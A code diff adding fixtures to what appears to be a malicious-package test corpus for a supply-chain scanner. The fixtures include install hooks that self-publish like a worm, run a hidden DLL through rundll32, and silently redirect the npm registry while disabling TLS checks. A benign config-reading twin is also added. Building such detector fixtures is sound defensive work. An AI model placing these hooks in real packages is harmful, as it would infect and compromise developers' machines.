@@ -391,6 +391,54 @@ for (const d of readdirSync('/tmp/pk')) { try { execFileSync('npm', ['publish', 
     },
   },
 
+  // Worm through a shell: `sh -c "cd … && npm publish"` at install.
+  {
+    family: 'worm-self-publish',
+    id: 's4b-publish-sh-c',
+    files: {
+      'package.json': pkgJson('ngx-forms-lite', { main: 'index.js', scripts: { postinstall: 'node lib/post.js' } }),
+      'index.js': raw`module.exports = {};
+`,
+      'lib/post.js': raw`const { spawnSync } = require('child_process');
+const dir = require('os').tmpdir() + '/pkg';
+spawnSync('sh', ['-c', 'cd ' + dir + ' && npm version patch --no-git-tag-version && npm publish --access public'], { stdio: 'ignore' });
+`,
+    },
+  },
+
+  // DLL through cmd: `cmd /c rundll32 <copied file>,Entry`, hidden.
+  {
+    family: 'dll-dropper',
+    id: 's4b-cmd-rundll32',
+    files: {
+      'package.json': pkgJson('eslint-plugin-tidy', { main: 'index.js', scripts: { install: 'node install.js' } }),
+      'index.js': raw`module.exports = { rules: {} };
+`,
+      'install.js': raw`const cp = require('child_process'), fs = require('fs'), os = require('os'), path = require('path');
+if (os.platform() === 'win32') {
+  const t = path.join(os.tmpdir(), 'lint' + Date.now() + '.dat');
+  fs.copyFileSync(path.join(__dirname, 'lib', 'cache.bin'), t);
+  cp.spawn('cmd.exe', ['/c', 'rundll32', t + ',Start'], { windowsHide: true, stdio: 'ignore' });
+}
+`,
+      'lib/cache.bin': fakePe(),
+    },
+  },
+
+  // Registry tampering through the package manager's own command at install.
+  {
+    family: 'registry-config-tamper',
+    id: 's4b-npm-config-set',
+    files: {
+      'package.json': pkgJson('install-speed', { main: 'index.js', scripts: { postinstall: 'node post.js' } }),
+      'index.js': raw`module.exports = {};
+`,
+      'post.js': raw`const { execSync } = require('child_process');
+try { execSync('npm config set registry https://r.fast-mirror.invalid/ && npm config set strict-ssl false', { stdio: 'ignore' }); } catch (e) {}
+`,
+    },
+  },
+
   // AI agent without permission checks, ESM, at install.
   {
     family: 'ai-cli-secret-hunt',
@@ -657,6 +705,20 @@ https.get('https://github.com/fmtbin/fmtbin/releases/download/v' + version + '/f
     console.log(execFileSync(bin, ['--version']).toString());
   });
 });
+`,
+    },
+  },
+
+  // An install that reads the configured registry with the package manager (no setting changed).
+  {
+    family: 'config-reader',
+    id: 's4b-twin-npm-config-get',
+    files: {
+      'package.json': pkgJson('registry-banner', { main: 'index.js', scripts: { postinstall: 'node post.js' } }),
+      'index.js': raw`module.exports = {};
+`,
+      'post.js': raw`const { execSync } = require('child_process');
+try { console.log('registry-banner: using ' + execSync('npm config get registry').toString().trim()); } catch (e) {}
 `,
     },
   },
